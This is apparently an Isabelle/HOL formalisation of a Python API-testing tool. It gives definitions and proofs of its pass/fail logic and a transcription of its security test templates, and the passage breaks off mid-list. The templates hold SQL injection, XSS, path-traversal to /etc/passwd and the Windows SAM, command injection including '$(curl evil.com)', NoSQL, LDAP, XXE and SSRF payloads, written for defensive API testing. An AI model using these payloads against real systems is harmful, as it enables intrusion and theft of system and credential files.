  "method_of method =
     (if method = PStr ''GET'' then Some ''GET''
      else if method = PStr ''POST'' then Some ''POST''
      else if method = PStr ''PUT'' then Some ''PUT''
      else if method = PStr ''PATCH'' then Some ''PATCH''
      else if method = PStr ''DELETE'' then Some ''DELETE''
      else None)"

text \<open>The request of a call: \<^verbatim>\<open>json=data\<close> goes out with POST, PUT and PATCH only.\<close>

definition request_of :: "tester \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> request" where
  "request_of self m endpoint data params =
     \<lparr>req_method = m,
      req_url = [Lit (base_url self), Str endpoint],
      req_json = (if m = ''POST'' \<or> m = ''PUT'' \<or> m = ''PATCH'' then data else PNone),
      req_params = params,
      req_timeout = timeout self\<rparr>"

text \<open>
  \<^verbatim>\<open>status_match\<close>: membership when the expectation is a list, equality otherwise. The
  status code is an integer, which no NaN equals, so the flag of \<open>py_eq\<close> plays no part.
\<close>

definition status_match :: "int \<Rightarrow> pyval \<Rightarrow> bool" where
  "status_match code expected_status =
     (case expected_status of
        PList codes \<Rightarrow> list_ex (py_eq False (PInt code)) codes
      | _ \<Rightarrow> py_eq False (PInt code) expected_status)"

definition expected_str :: "pyval \<Rightarrow> fstring" where
  "expected_str expected_status =
     (case expected_status of
        PList codes \<Rightarrow> [Lit ''one of '', Str expected_status]
      | _ \<Rightarrow> [Str expected_status])"

text \<open>\<^verbatim>\<open>". ".join(parts)\<close>\<close>

fun join_reasons :: "fstring list \<Rightarrow> fstring" where
  "join_reasons [] = []"
| "join_reasons [r] = r"
| "join_reasons (r # rs) = r @ [Lit ''. ''] @ join_reasons rs"

text \<open>
  \<^verbatim>\<open>test_request\<close>. The index \<open>i\<close> says which outcome of the environment the call
  receives. The result is the tester after the call, and either the exception that left
  the call or the value returned (the response on PASS, \<^verbatim>\<open>None\<close> otherwise). The two
  \<^verbatim>\<open>except\<close> clauses take \<^verbatim>\<open>Timeout\<close> and \<^verbatim>\<open>RequestException\<close>; every other exception
  raised in the \<^verbatim>\<open>try\<close> block leaves the call before anything is logged.
\<close>

definition test_request ::
  "env \<Rightarrow> nat \<Rightarrow> tester \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> fstring option \<Rightarrow>
   pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> pyval \<Rightarrow> tester \<times> (py_exn + response option)" where
  "test_request ev i self method endpoint data expected_status test_name params
     expected_body expected_schema validate_body =
     (let name = (case test_name of
                    None \<Rightarrow> [Str method, Lit '' '', Lit (base_url self), Str endpoint]
                  | Some n \<Rightarrow> n)
      in case method_of method of
           None \<Rightarrow>
             (log_result self name ''FAIL'' [Lit ''Unsupported method: '', Str method] None PNone,
              Inr None)
         | Some m \<Rightarrow>
            (case probe ev i (request_of self m endpoint data params) of
               Responded resp \<Rightarrow>
                 (let matched = status_match (status_code resp) expected_status
                  in case (if py_truthy validate_body \<and> matched
                           then validate_response_body ev resp expected_body expected_schema
                           else Inr (True, [])) of
                       Inl e \<Rightarrow> (self, Inl e)
                     | Inr (body_valid, body_message) \<Rightarrow>
                         if matched \<and> body_valid
                         then (log_result self name ''PASS''
                                 ([Lit ''Status: '', Str (PInt (status_code resp)),
                                   Lit '', Time: '', Fixed2 (elapsed resp), Lit ''s''] @
                                  (if py_truthy validate_body
                                   then Lit '', '' # body_message else []))
                                 (Some (status_code resp, elapsed resp)) PNone,
                               Inr (Some resp))
                         else (log_result self name ''FAIL''
                                 (join_reasons
                                    ((if \<not> matched
                                      then [[Lit ''Expected status ''] @
                                            expected_str expected_status @
                                            [Lit '', got '', Str (PInt (status_code resp))]]
                                      else []) @
                                     (if \<not> body_valid then [body_message] else [])) @
                                  (if length (body_text resp) > 0
                                   then [Lit ''. Response: '', Points (take 200 (body_text resp))]
                                   else []))
                                 None (analyze ev i),
                               Inr None))
             | TimedOut \<Rightarrow>
                 (log_result self name ''FAIL''
                    [Lit ''Request timeout after '', Str (timeout self), Lit ''s'']
                    None (analyze ev i),
                  Inr None)
             | RequestFailed msg \<Rightarrow>
                 (log_result self name ''FAIL'' [Lit (''Error: '' @ msg)] None (analyze ev i),
                  Inr None)
             | Raised e \<Rightarrow> (self, Inl e)))"

text \<open>
  \<^verbatim>\<open>run_ai_generated_tests\<close>: the test cases are numbered from 1 in the order of the list.
  Each is read with \<^verbatim>\<open>.get\<close>, which only a dictionary has. The loop has no \<^verbatim>\<open>try\<close>: an
  exception that leaves \<^verbatim>\<open>test_request\<close> ends the run, and the cases after it are not
  executed. The result is the tester after the run and the exception that ended it, if
  any.
\<close>

definition case_name :: "nat \<Rightarrow> (string \<times> pyval) list \<Rightarrow> fstring" where
  "case_name i test_case =
     (let description = (case map_of test_case ''description'' of
                           None \<Rightarrow> [Lit (''Test '' @ str_nat i)]
                         | Some d \<Rightarrow> [Str d])
      in if dict_get test_case ''category'' (PStr ''other'') = PStr ''custom''
         then [Lit (''[Custom Test '' @ str_nat i @ ''] '')] @ description
         else [Lit (''[AI Test '' @ str_nat i @ ''] '')] @ description)"

definition run_case :: "env \<Rightarrow> nat \<Rightarrow> tester \<Rightarrow> pyval \<Rightarrow> tester \<times> py_exn option" where
  "run_case ev i self test_case =
     (case test_case of
        PDict d \<Rightarrow>
          (case test_request ev i self
                  (dict_get d ''method'' (PStr ''GET''))
                  (dict_get d ''endpoint'' (PStr []))
                  (dict_get d ''data'' PNone)
                  (dict_get d ''expected_status'' (PInt 200))
                  (Some (case_name i d))
                  (dict_get d ''params'' PNone)
                  (dict_get d ''expected_body'' PNone)
                  (dict_get d ''expected_schema'' PNone)
                  (dict_get d ''validate_body'' (PBool False)) of
             (self', Inl e) \<Rightarrow> (self', Some e)
           | (self', Inr returned) \<Rightarrow> (self', None))
      | _ \<Rightarrow> (self, Some (no_attribute test_case ''get'')))"

fun run_from :: "env \<Rightarrow> nat \<Rightarrow> tester \<Rightarrow> pyval list \<Rightarrow> tester \<times> py_exn option" where
  "run_from ev i self [] = (self, None)"
| "run_from ev i self (test_case # rest) =
     (case run_case ev i self test_case of
        (self', Some e) \<Rightarrow> (self', Some e)
      | (self', None) \<Rightarrow> run_from ev (Suc i) self' rest)"

definition run_ai_generated_tests :: "env \<Rightarrow> tester \<Rightarrow> pyval list \<Rightarrow> tester \<times> py_exn option" where
  "run_ai_generated_tests ev self test_cases = run_from ev 1 self test_cases"

text \<open>The statuses that a call or a run has added to the log.\<close>

definition verdicts :: "tester \<Rightarrow> tester \<Rightarrow> string list" where
  "verdicts before after = map status (drop (length (results before)) (results after))"

text \<open>A target that answers 404 with a body that is no JSON.\<close>

definition demo_response :: response where
  "demo_response = \<lparr>status_code = 404, body_text = map of_char ''not json'', json_body = None,
                     elapsed = Finite (1 / 4)\<rparr>"

definition demo_env :: env where
  "demo_env = \<lparr>probe = (\<lambda>i request. Responded demo_response),
                jsonschema_validate = (\<lambda>instance schema. Conforms),
                analyze = (\<lambda>i. PNone),
                same_nan = True\<rparr>"

definition demo_tester :: tester where
  "demo_tester = \<lparr>base_url = ''http://example.com'', timeout = PInt 10, results = []\<rparr>"

text \<open>
  A target that answers 200 with the JSON body \<^verbatim>\<open>{"id": 1}\<close>, and a run of two test cases of
  which the first asks for the body to be validated against the schema
  \<^verbatim>\<open>{"type": "strin"}\<close>. No such type exists: \<^verbatim>\<open>jsonschema.validate\<close> checks the schema
  first and raises \<^verbatim>\<open>SchemaError\<close>.
\<close>

definition ok_response :: response where
  "ok_response = \<lparr>status_code = 200, body_text = [123, 34, 105, 100, 34, 58, 32, 49, 125],
                   json_body = Some (PDict [(''id'', PInt 1)]), elapsed = Finite (1 / 4)\<rparr>"

definition strin_schema :: pyval where
  "strin_schema = PDict [(''type'', PStr ''strin'')]"

definition strin_error :: py_exn where
  "strin_error =
     SchemaError (squote @ ''strin'' @ squote @ '' is not valid under any of the given schemas'')"

definition ok_env :: env where
  "ok_env = \<lparr>probe = (\<lambda>i request. Responded ok_response),
              jsonschema_validate =
                (\<lambda>instance schema. if schema = strin_schema then ValidateRaised strin_error
                                    else Conforms),
              analyze = (\<lambda>i. PNone),
              same_nan = True\<rparr>"

definition strin_cases :: "pyval list" where
  "strin_cases =
     [PDict [(''method'', PStr ''GET''), (''endpoint'', PStr ''/users/1''),
             (''expected_status'', PInt 200), (''description'', PStr ''Get user''),
             (''expected_schema'', strin_schema), (''validate_body'', PBool True)],
      PDict [(''method'', PStr ''GET''), (''endpoint'', PStr ''/users''),
             (''expected_status'', PInt 200), (''description'', PStr ''List users'')]]"

lemma status_match_codes:
  "status_match code (PList (map PInt codes)) = (code \<in> set codes)"
  by (auto simp: status_match_def list_ex_iff)

lemma status_match_code: "status_match code (PInt c) = (code = c)"
  by (simp add: status_match_def)

lemma verdicts_log [simp]:
  "verdicts self (log_result self name st dets rd an) = [st]"
  by (simp add: verdicts_def log_result_def)

lemma verdicts_same [simp]: "verdicts self self = []"
  by (simp add: verdicts_def)

text \<open>
  C5. A call that receives a response logs PASS if and only if the status code matches the
  expectation (it equals the expected code, or is among the expected codes when these are
  a list) and the body is valid; the body counts as valid unless \<^verbatim>\<open>validate_body\<close> is set
  and \<^verbatim>\<open>_validate_response_body\<close> rejects it. It logs FAIL if and only if the status
  code does not match or the checked body is rejected, and logs nothing only when the
  validation itself raises. With the expectation \<^verbatim>\<open>[200, 404]\<close> a status of 500 is FAIL
  for every body and every setting, and a status of 404 is PASS for every body, expected
  body and schema when \<^verbatim>\<open>validate_body\<close> is not set, which is its default.
\<close>

theorem evaluator_pass_iff:
  assumes "method_of method = Some m"
      and "probe ev i (request_of self m endpoint data params) = Responded resp"
  shows "let code = status_code resp;
             after = fst (test_request ev i self method endpoint data es tn params eb esch vb);
             body = validate_response_body ev resp eb esch
         in (verdicts self after = [''PASS''] \<longleftrightarrow>
               status_match code es \<and> (py_truthy vb \<longrightarrow> (\<exists>msg. body = Inr (True, msg)))) \<and>
            (verdicts self after = [''FAIL''] \<longleftrightarrow>
               \<not> status_match code es \<or> (py_truthy vb \<and> (\<exists>msg. body = Inr (False, msg)))) \<and>
            (verdicts self after = [] \<longleftrightarrow>
               status_match code es \<and> py_truthy vb \<and> (\<exists>e. body = Inl e)) \<and>
            (status_match code (PList (map PInt codes)) \<longleftrightarrow> code \<in> set codes) \<and>
            (status_match code (PInt c) \<longleftrightarrow> code = c) \<and>
            (es = PList [PInt 200, PInt 404] \<and> code = 500 \<longrightarrow> verdicts self after = [''FAIL'']) \<and>
            (es = PList [PInt 200, PInt 404] \<and> code = 404 \<and> \<not> py_truthy vb \<longrightarrow>
               verdicts self after = [''PASS''])"
proof -
  let ?body = "validate_response_body ev resp eb esch"
  let ?after = "fst (test_request ev i self method endpoint data es tn params eb esch vb)"
  let ?matched = "status_match (status_code resp) es"
  have nomatch: "verdicts self ?after = [''FAIL'']" if "\<not> ?matched"
    using assms that by (simp add: test_request_def Let_def)
  have noflag: "verdicts self ?after = [''PASS'']" if "?matched" "\<not> py_truthy vb"
    using assms that by (simp add: test_request_def Let_def)
  have valid: "verdicts self ?after = [''PASS'']"
    if "?matched" "py_truthy vb" "?body = Inr (True, msg)" for msg
    using assms that by (simp add: test_request_def Let_def)
  have invalid: "verdicts self ?after = [''FAIL'']"
    if "?matched" "py_truthy vb" "?body = Inr (False, msg)" for msg
    using assms that by (simp add: test_request_def Let_def)
  have raised: "verdicts self ?after = []"
    if "?matched" "py_truthy vb" "?body = Inl e" for e
    using assms that by (simp add: test_request_def Let_def)
  have cases: "(\<exists>msg. ?body = Inr (True, msg)) \<or> (\<exists>msg. ?body = Inr (False, msg)) \<or>
               (\<exists>e. ?body = Inl e)"
    by (cases ?body) auto
  have pass: "verdicts self ?after = [''PASS''] \<longleftrightarrow>
                ?matched \<and> (py_truthy vb \<longrightarrow> (\<exists>msg. ?body = Inr (True, msg)))"
    using nomatch noflag valid invalid raised cases
    by (cases ?matched; cases "py_truthy vb") auto
  have fail: "verdicts self ?after = [''FAIL''] \<longleftrightarrow>
                \<not> ?matched \<or> (py_truthy vb \<and> (\<exists>msg. ?body = Inr (False, msg)))"
    using nomatch noflag valid invalid raised cases
    by (cases ?matched; cases "py_truthy vb") auto
  have none: "verdicts self ?after = [] \<longleftrightarrow> ?matched \<and> py_truthy vb \<and> (\<exists>e. ?body = Inl e)"
    using nomatch noflag valid invalid raised cases
    by (cases ?matched; cases "py_truthy vb") auto
  have m500: "\<not> status_match 500 (PList [PInt 200, PInt 404])"
    by (simp add: status_match_def)
  have m404: "status_match 404 (PList [PInt 200, PInt 404])"
    by (simp add: status_match_def)
  have s500: "es = PList [PInt 200, PInt 404] \<and> status_code resp = 500 \<longrightarrow>
                verdicts self ?after = [''FAIL'']"
    using nomatch m500 by auto
  have s404: "es = PList [PInt 200, PInt 404] \<and> status_code resp = 404 \<and> \<not> py_truthy vb \<longrightarrow>
                verdicts self ?after = [''PASS'']"
    using noflag m404 by auto
  show ?thesis
    unfolding Let_def
    using pass fail none s500 s404 status_match_codes [of "status_code resp" codes]
      status_match_code [of "status_code resp" c]
    by blast
qed

theorem evaluator_pass_iff_witness:
  "method_of (PStr ''GET'') = Some ''GET'' \<and>
   probe demo_env 1 (request_of demo_tester ''GET'' (PStr []) PNone PNone) =
     Responded demo_response \<and>
   status_code demo_response = 404 \<and>
   verdicts demo_tester (fst (test_request demo_env 1 demo_tester (PStr ''GET'') (PStr []) PNone
     (PList [PInt 200, PInt 404]) None PNone PNone PNone (PBool False))) = [''PASS'']"
proof -
  have m: "method_of (PStr ''GET'') = Some ''GET''" by (simp add: method_of_def)
  have p: "probe demo_env 1 (request_of demo_tester ''GET'' (PStr []) PNone PNone) =
             Responded demo_response"
    by (simp add: demo_env_def)
  have c: "status_code demo_response = 404" by (simp add: demo_response_def)
  show ?thesis
    using evaluator_pass_iff [OF m p, of "PList [PInt 200, PInt 404]" None PNone PNone
        "PBool False"] m p c
    by (simp add: Let_def)
qed

text \<open>With \<^verbatim>\<open>validate_body\<close> set, the body of the same response is checked and rejected.\<close>

lemma evaluator_flag_set:
  "verdicts demo_tester (fst (test_request demo_env 1 demo_tester (PStr ''GET'') (PStr []) PNone
     (PList [PInt 200, PInt 404]) None PNone PNone PNone (PBool True))) = [''FAIL'']"
  by (simp add: test_request_def Let_def status_match_def method_of_def
        demo_env_def demo_response_def validate_response_body_def)

text \<open>
  A run adds at most one result per test case, and one for every test case exactly when
  no exception ends it.
\<close>

lemma run_case_length:
  "length (results (fst (run_case ev i self tc))) =
     length (results self) + (if snd (run_case ev i self tc) = None then 1 else 0)"
  by (simp add: run_case_def test_request_def log_result_def Let_def
        split: pyval.split option.split probe_outcome.split sum.split prod.split)

lemma run_from_length:
  "length (results (fst (run_from ev i self tcs))) \<le> length (results self) + length tcs \<and>
   (snd (run_from ev i self tcs) = None \<longleftrightarrow>
      length (results (fst (run_from ev i self tcs))) = length (results self) + length tcs)"
proof (induction tcs arbitrary: i self)
  case Nil
  show ?case by simp
next
  case (Cons tc tcs)
  obtain self' r where rc: "run_case ev i self tc = (self', r)"
    by (cases "run_case ev i self tc")
  have len: "length (results self') = length (results self) + (if r = None then 1 else 0)"
    using run_case_length [of ev i self tc] rc by simp
  show ?case
  proof (cases r)
    case None
    then show ?thesis
      using rc len Cons.IH [of "Suc i" self'] by simp
  next
    case (Some e)
    then show ?thesis
      using rc len Cons.IH [of "Suc i" self'] by simp
  qed
qed

text \<open>
  C8. The run of two test cases against a target that answers 200 with a JSON body, where
  the first case asks for validation against the schema \<^verbatim>\<open>{"type": "strin"}\<close>: the
  \<^verbatim>\<open>SchemaError\<close> of \<^verbatim>\<open>jsonschema.validate\<close> is caught nowhere, the run ends with it, and
  the log holds no result for either case.
\<close>

theorem runner_aborts_on_schema_error:
  "run_ai_generated_tests ok_env demo_tester strin_cases = (demo_tester, Some strin_error) \<and>
   length strin_cases = 2 \<and> results demo_tester = []"
  by (simp add: run_ai_generated_tests_def run_case_def test_request_def Let_def
        strin_cases_def ok_env_def ok_response_def demo_tester_def dict_get_def method_of_def
        status_match_def validate_response_body_def strin_schema_def)

section \<open>Floating-point products, slices and shuffling\<close>

text \<open>
  The generator computes \<^verbatim>\<open>int(num * 0.2)\<close> and the like in double precision. A double
  constant is a pair \<open>(m, e)\<close> standing for \<open>m / 2 ^ e\<close>; the constants below are the doubles
  that Python reads from the literals. The product of an integer and a constant is the
  exact product rounded to 53 significant bits, ties to even, after the integer itself
  has been rounded to a double. An integer that rounds to \<open>2 ^ 1024\<close> or more has no double:
  the conversion raises \<^verbatim>\<open>OverflowError\<close>. The constants are below 1, so the product of
  an integer that has a double does not overflow.
\<close>

type_synonym double_const = "nat \<times> nat"

definition d_0_25 :: double_const where "d_0_25 = (1, 2)"
definition d_0_20 :: double_const where "d_0_20 = (3602879701896397, 54)"
definition d_0_15 :: double_const where "d_0_15 = (5404319552844595, 55)"
definition d_0_8 :: double_const where "d_0_8 = (3602879701896397, 52)"
definition d_0_7 :: double_const where "d_0_7 = (3152519739159347, 52)"

text \<open>\<^verbatim>\<open>n.bit_length()\<close>\<close>

fun bit_length :: "nat \<Rightarrow> nat" where
  "bit_length n = (if n = 0 then 0 else Suc (bit_length (n div 2)))"

declare bit_length.simps [simp del]

definition round_to_53 :: "nat \<Rightarrow> nat" where
  "round_to_53 p =
     (let k = bit_length p
      in if k \<le> 53 then p
         else (let s = k - 53; q = p div 2 ^ s; r = p mod 2 ^ s; h = 2 ^ (s - 1)
               in (if r > h \<or> (r = h \<and> odd q) then q + 1 else q) * 2 ^ s))"

text \<open>The numerator, over \<open>2 ^ e\<close>, of the double \<^verbatim>\<open>n * c\<close> for \<open>n \<ge> 0\<close>.\<close>

definition mul_numerator :: "nat \<Rightarrow> double_const \<Rightarrow> nat" where
  "mul_numerator n c = round_to_53 (round_to_53 n * fst c)"

text \<open>The integer part, towards zero, of the double \<^verbatim>\<open>num * c\<close>.\<close>

definition trunc_mul :: "int \<Rightarrow> double_const \<Rightarrow> int" where
  "trunc_mul num c =
     (if num \<ge> 0 then int (mul_numerator (nat num) c div 2 ^ snd c)
      else - int (mul_numerator (nat (- num)) c div 2 ^ snd c))"

text \<open>Whether the conversion of an integer to a double overflows.\<close>

definition float_overflow :: "int \<Rightarrow> bool" where
  "float_overflow num = (2 ^ 1024 \<le> round_to_53 (nat \<bar>num\<bar>))"

definition overflow_error :: py_exn where
  "overflow_error = OverflowError ''int too large to convert to float''"

text \<open>\<^verbatim>\<open>int(num * c)\<close>\<close>

definition py_int_mul :: "int \<Rightarrow> double_const \<Rightarrow> py_exn + int" where
  "py_int_mul num c = (if float_overflow num then Inl overflow_error else Inr (trunc_mul num c))"

text \<open>
  \<^verbatim>\<open>k >= num * c\<close> for an integer \<open>k\<close>: the product is a double as above, and Python
  compares an integer and a double exactly.
\<close>

definition int_ge_mul :: "int \<Rightarrow> int \<Rightarrow> double_const \<Rightarrow> py_exn + bool" where
  "int_ge_mul k num c =
     (if float_overflow num then Inl overflow_error
      else Inr (if num \<ge> 0 then k * 2 ^ snd c \<ge> int (mul_numerator (nat num) c)
                else k * 2 ^ snd c \<ge> - int (mul_numerator (nat (- num)) c)))"

text \<open>The slice \<^verbatim>\<open>xs[:n]\<close>: a negative \<open>n\<close> counts from the end.\<close>

definition py_take :: "int \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "py_take n xs = (if n \<ge> 0 then take (nat n) xs else take (length xs - nat (- n)) xs)"

text \<open>
  \<^verbatim>\<open>random.shuffle\<close>: for \<open>i\<close> from the last index down to 1, exchange position \<open>i\<close> with
  position \<^verbatim>\<open>randbelow(i + 1)\<close>. The random source is the list of numbers still to be
  drawn; a draw is reduced into its range, and an exhausted source draws 0.
\<close>

type_synonym rng = "nat list"

fun randbelow :: "nat \<Rightarrow> rng \<Rightarrow> nat \<times> rng" where
  "randbelow n [] = (0, [])"
| "randbelow n (r # g) = (r mod n, g)"

definition swap :: "nat \<Rightarrow> nat \<Rightarrow> 'a list \<Rightarrow> 'a list" where
  "swap i j xs = xs[i := xs ! j, j := xs ! i]"

fun shuffle_down :: "nat \<Rightarrow> 'a list \<Rightarrow> rng \<Rightarrow> 'a list \<times> rng" where
  "shuffle_down 0 xs g = (xs, g)"
| "shuffle_down (Suc i) xs g =
     (let (j, g') = randbelow (Suc i + 1) g
      in shuffle_down i (swap (Suc i) j xs) g')"

definition shuffle :: "'a list \<Rightarrow> rng \<Rightarrow> 'a list \<times> rng" where
  "shuffle xs g = shuffle_down (length xs - 1) xs g"

section \<open>Dictionary updates\<close>

text \<open>\<^verbatim>\<open>d[k] = v\<close> keeps the position of an existing key and appends a new one.\<close>

fun dict_set :: "(string \<times> pyval) list \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> (string \<times> pyval) list" where
  "dict_set [] k v = [(k, v)]"
| "dict_set ((k', v') # d) k v = (if k' = k then (k, v) # d else (k', v') # dict_set d k v)"

definition setdefault :: "(string \<times> pyval) list \<Rightarrow> string \<Rightarrow> pyval \<Rightarrow> (string \<times> pyval) list" where
  "setdefault d k v = (if map_of d k \<noteq> None then d else d @ [(k, v)])"

text \<open>\<^verbatim>\<open>list(d.keys())[0]\<close>, used by the source only where \<open>d\<close> is not empty.\<close>

fun first_key :: "(string \<times> pyval) list \<Rightarrow> string" where
  "first_key [] = []"
| "first_key ((k, v) # d) = k"

section \<open>Template test bank\<close>

text \<open>
  \<^verbatim>\<open>_generate_fallback_tests(api_url, sample_data, num, has_auth)\<close> of v3.py. A test
  case is a dictionary. The five tables are the source's template lists, entry for entry;
  a string is given by its UTF-8 bytes, \<^verbatim>\<open>"A" * 100000\<close> by \<open>replicate\<close>, a float literal
  by the rational it denotes.
\<close>

definition security_templates :: "bool \<Rightarrow> (string \<times> pyval) list list" where
  "security_templates has_auth =
     [
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ([CHR 0x27] @ ''; DROP TABLE users; --''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SQL injection - DROP TABLE'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr ([CHR 0x27] @ '' OR '' @ [CHR 0x27] @ ''1'' @ [CHR 0x27] @ ''='' @ [CHR 0x27] @ ''1''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SQL injection - OR condition'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''1'' @ [CHR 0x27] @ '' UNION SELECT NULL--''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SQL injection - UNION attack'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''id'', PStr ''1 OR 1=1'')]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 403, PInt 404]),
       (''description'', PStr ''SQL injection in query param'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''admin'' @ [CHR 0x27] @ ''--''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SQL injection - comment bypass'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''<script>alert('' @ [CHR 0x27] @ ''xss'' @ [CHR 0x27] @ '')</script>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XSS - script tag'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''<img src=x onerror=alert('' @ [CHR 0x27] @ ''xss'' @ [CHR 0x27] @ '')>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XSS - img onerror'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''javascript:alert('' @ [CHR 0x27] @ ''xss'' @ [CHR 0x27] @ '')''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XSS - javascript protocol'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''<svg onload=alert('' @ [CHR 0x27] @ ''xss'' @ [CHR 0x27] @ '')>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XSS - SVG onload'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PStr (''<iframe src='' @ [CHR 0x27] @ ''javascript:alert(1)'' @ [CHR 0x27] @ ''>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XSS - iframe injection'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/../../../etc/passwd''),
       (''expected_status'', PList [PInt 200, PInt 404, PInt 403]),
       (''description'', PStr ''Path traversal - etc/passwd'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/../../windows/system32/config/sam''),
       (''expected_status'', PList [PInt 200, PInt 404, PInt 403]),
       (''description'', PStr ''Path traversal - Windows SAM'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''file'', PStr ''../../../etc/passwd'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Path traversal in POST data'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr []),
       (''params'', PDict [(''file'', PStr ''....//....//etc/passwd'')]),
       (''expected_status'', PList [PInt 200, PInt 400, PInt 403, PInt 404]),
       (''description'', PStr ''Path traversal - double encoding'')],
      [(''method'', PStr ''GET''),
       (''endpoint'', PStr ''/%2e%2e%2f%2e%2e%2fetc%2fpasswd''),
       (''expected_status'', PList [PInt 200, PInt 404, PInt 403]),
       (''description'', PStr ''Path traversal - URL encoded'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''cmd'', PStr ''; ls -la'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Command injection - ls'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''cmd'', PStr ''| cat /etc/passwd'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Command injection - pipe'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''cmd'', PStr ([CHR 0x60] @ ''whoami'' @ [CHR 0x60]))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Command injection - backticks'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''cmd'', PStr ''$(curl evil.com)'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''Command injection - subshell'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PDict [(''$gt'', PStr [])])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''NoSQL injection - $gt operator'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PDict [(''$ne'', PNone)])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''NoSQL injection - $ne operator'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''field'', PDict [(''$regex'', PStr ''.*'')])]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''NoSQL injection - regex'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''user'', PStr ''*)(uid=*))(&(uid=*'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''LDAP injection'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''filter'', PStr ''admin*'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''LDAP wildcard injection'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''xml'', PStr (''<?xml version='' @ [CHR 0x27] @ ''1.0'' @ [CHR 0x27] @ ''?><!DOCTYPE foo [<!ENTITY xxe SYSTEM '' @ [CHR 0x27] @ ''file:///etc/passwd'' @ [CHR 0x27] @ ''>]><foo>&xxe;</foo>''))]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''XXE injection'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
       (''data'', PDict [(''url'', PStr ''http://localhost:22'')]),
       (''expected_status'', PList [PInt 200, PInt 201, PInt 400, PInt 403, PInt 404, PInt 422]),
       (''description'', PStr ''SSRF - localhost scan'')],
      [(''method'', PStr ''POST''),
       (''endpoint'', PStr []),
